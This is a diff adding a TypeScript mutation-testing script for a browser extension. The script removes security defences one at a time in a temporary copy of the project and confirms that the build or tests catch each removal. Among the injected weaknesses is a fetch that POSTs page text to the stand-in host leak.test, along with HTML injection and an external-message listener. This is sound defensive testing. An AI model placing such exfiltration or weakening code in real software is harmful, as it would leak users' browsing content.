@@ -1,0 +1,207 @@
+import { spawnSync } from 'node:child_process';
+import { cpSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join, relative } from 'node:path';
+
+/** A defence that is taken away, and what has to notice. */
+interface Mutation {
+  defence: string;
+  /** In each file the first text is replaced by the second; it must be there exactly once. */
+  edits: { file: string; from: string; to: string }[];
+  /** What must fail then: the build, or tests by file and, for browser tests, a part of their title. */
+  noticedBy: Check;
+}
+type Check = 'build' | { unit: string } | { browser: string; title?: string };
+
+/** Stands at the top of a file; the edit puts something before it. */
+const begin = (file: string, from: string, code: string) => ({ file, from, to: `${code}\n${from}` });
+
+const LEAK =
+  "fetch('http://leak.test/', { method: 'POST', mode: 'no-cors', body: String(document.body?.textContent) }).catch(() => {});";
+const CONTENT_START = "import { EngineClient } from '../protocol/engineClient.ts';";
+
+const MUTATIONS: Mutation[] = [
+  {
+    defence: 'the policy forbids connections',
+    edits: [{ file: 'manifest.json', from: "connect-src 'none'", to: 'connect-src *' }],
+    noticedBy: 'build',
+  },
+  {
+    defence: 'no file can be asked for by a page',
+    edits: [
+      {
+        file: 'manifest.json',
+        from: '"incognito"',
+        to: '"web_accessible_resources": [{ "resources": ["icons/*"], "matches": ["<all_urls>"] }],\n  "incognito"',
+      },
+    ],
+    noticedBy: 'build',
+  },
+  {
+    defence: 'the content script has no network call',
+    edits: [begin('src/content/content.iife.ts', CONTENT_START, LEAK)],
+    noticedBy: 'build',
+  },
+  {
+    defence: 'the content script has no network call, and nobody reads the bundle',
+    edits: [
+      begin('src/content/content.iife.ts', CONTENT_START, LEAK),
+      { file: 'tools/checkBuilt.ts', from: '...problemsOfBundle(folder),', to: '' },
+    ],
+    noticedBy: { browser: 'test/e2e/privacy.spec.ts', title: 'causes no connection' },
+  },
+  {
+    defence: 'HTML is never written',
+    edits: [
+      begin(
+        'src/content/content.iife.ts',
+        CONTENT_START,
+        "document.documentElement.insertAdjacentHTML('beforeend', document.title);",
+      ),
+    ],
+    noticedBy: 'build',
+  },
+  {
+    defence: 'WebRTC is taken away before anything else runs',
+    edits: [
+      {
+        file: 'src/protocol/lockdown.ts',
+        from: 'Reflect.deleteProperty(globalThis, name);',
+        to: 'void name;',
+      },
+    ],
+    noticedBy: { browser: 'test/e2e/engine.spec.ts', title: 'WebRTC' },
+  },
+  {
+    defence: 'a sender must be this extension',
+    edits: [
+      {
+        file: 'src/protocol/sender.ts',
+        from: 'if (!sender || !ownId || sender.id !== ownId) return null;',
+        to: 'if (!sender || !ownId) return null;',
+      },
+    ],
+    noticedBy: { unit: 'test/unit/protocol/sender.test.ts' },
+  },
+  {
+    defence: 'nobody listens to other extensions',
+    edits: [
+      begin(
+        'src/background/background.ts',
+        '/**\n * The service worker (Chrome)',
+        "chrome.runtime.onMessageExternal.addListener((_message, _sender, answer) => answer('hello'));",
+      ),
+    ],
+    noticedBy: { browser: 'test/e2e/stranger.spec.ts' },
+  },
+  {
+    defence: 'a covered card takes no clicks',
+    edits: [{ file: 'src/content/exposure.ts', from: 'trackVisibility: true', to: 'trackVisibility: false' }],
+    noticedBy: { browser: 'test/e2e/content.spec.ts', title: 'takes no clicks' },
+  },
+  {
+    defence: 'only gestures of a person teach',
+    edits: [
+      { file: 'src/content/card.ts', from: 'if (!event.isTrusted) return false;', to: '' },
+      {
+        file: 'src/content/badges.ts',
+        from: 'onclick: (event) => event.isTrusted && this',
+        to: 'onclick: (event) => this',
+      },
+    ],
+    noticedBy: { browser: 'test/e2e/content.spec.ts', title: 'no person made' },
+  },
+  {
+    defence: 'a page can’t look into the overlay',
+    edits: [{ file: 'src/content/overlay.ts', from: "mode: 'closed'", to: "mode: 'open'" }],
+    noticedBy: { browser: 'test/e2e/content-hostile.spec.ts', title: 'look into the overlay' },
+  },
+  {
+    defence: 'a lesson is on the disk before it is acknowledged',
+    edits: [{ file: 'src/engine/store.ts', from: "durability: 'strict'", to: "durability: 'relaxed'" }],
+    noticedBy: { unit: 'test/unit/engine/store.test.ts' },
+  },
+  {
+    defence: 'a file’s checksum is compared',
+    edits: [
+      {
+        file: 'src/elm/file/container.ts',
+        from: 'if (view.getUint32(8, true) !== checksum)',
+        to: 'if (view.getUint32(8, true) === -1)',
+      },
+    ],
+    noticedBy: { unit: 'test/unit/elm/file/container.test.ts' },
+  },
+  {
+    defence: 'numbers of a file are finite and small enough to add',
+    edits: [
+      { file: 'src/elm/head/head.ts', from: 'Math.abs(value) <= MAX_MAGNITUDE;', to: 'MAX_MAGNITUDE > 0;' },
+    ],
+    noticedBy: { unit: 'test/unit/tools/prove/fuzz.test.ts' },
+  },
+  {
+    defence: 'a text is cut before it is looked at',
+    edits: [
+      {
+        file: 'src/elm/text/normalise.ts',
+        from: 'text.length > MAX_TEXT_UNITS ? text.slice(0, MAX_TEXT_UNITS) : text',
+        to: 'text',
+      },
+    ],
+    noticedBy: { unit: 'test/unit/elm/text/textFeatures.test.ts' },
+  },
+];
+
+/** Takes each defence away in a copy of the project. Returns whether all were noticed. */
+export function mutate(root: string): boolean {
+  const copy = mkdtempSync(join(tmpdir(), 'inkling-mutated-'));
+  try {
+    const left = new Set(['node_modules', 'dist', 'out', 'test-results', '.git', 'PROOF.md']);
+    cpSync(root, copy, { recursive: true, filter: (path) => !left.has(relative(root, path)) });
+    symlinkSync(join(root, 'node_modules'), join(copy, 'node_modules'));
+    // A check that fails by itself would notice everything.
+    const checks = new Map(MUTATIONS.map(({ noticedBy }) => [JSON.stringify(noticedBy), noticedBy]));
+    for (const check of checks.values()) {
+      if (!passes(copy, check))
+        throw new Error(`fails with every defence in place: ${JSON.stringify(check)}`);
+    }
+    let unnoticed = 0;
+    for (const { defence, edits, noticedBy } of MUTATIONS) {
+      const before = edits.map(({ file }) => readFileSync(join(copy, file), 'utf8'));
+      for (const { file, from, to } of edits) edit(join(copy, file), from, to);
+      const isNoticed = !passes(copy, noticedBy);
+      edits.forEach(({ file }, i) => {
+        writeFileSync(join(copy, file), before[i]);
+      });
+      if (!isNoticed) unnoticed++;
+      console.log(`${isNoticed ? 'noticed  ' : 'UNNOTICED'} without: ${defence}`);
+    }
+    console.log(`${MUTATIONS.length - unnoticed} of ${MUTATIONS.length} missing defences noticed`);
+    return unnoticed === 0;
+  } finally {
+    rmSync(copy, { recursive: true, force: true });
+  }
+}
+
+function edit(path: string, from: string, to: string): void {
+  const text = readFileSync(path, 'utf8');
+  const parts = text.split(from);
+  if (parts.length !== 2) throw new Error(`${path} has ${parts.length - 1} times: ${from}`);
+  writeFileSync(path, parts.join(to));
+}
+
+function passes(folder: string, check: Check): boolean {
+  const run = (...args: string[]) =>
+    spawnSync(process.execPath, args, {
+      cwd: folder,
+      encoding: 'utf8',
+      env: { ...process.env, NO_COLOR: '1' },
+    }).status === 0;
+  if (check === 'build') return run('--import', 'tsx', 'tools/build.ts');
+  if ('unit' in check) return run('node_modules/vitest/vitest.mjs', 'run', '--testTimeout=60000', check.unit);
+  const title = check.title === undefined ? [] : ['-g', check.title];
+  return (
+    run('--import', 'tsx', 'tools/build.ts') &&
+    run('node_modules/@playwright/test/cli.js', 'test', check.browser, ...title)
+  );
+}
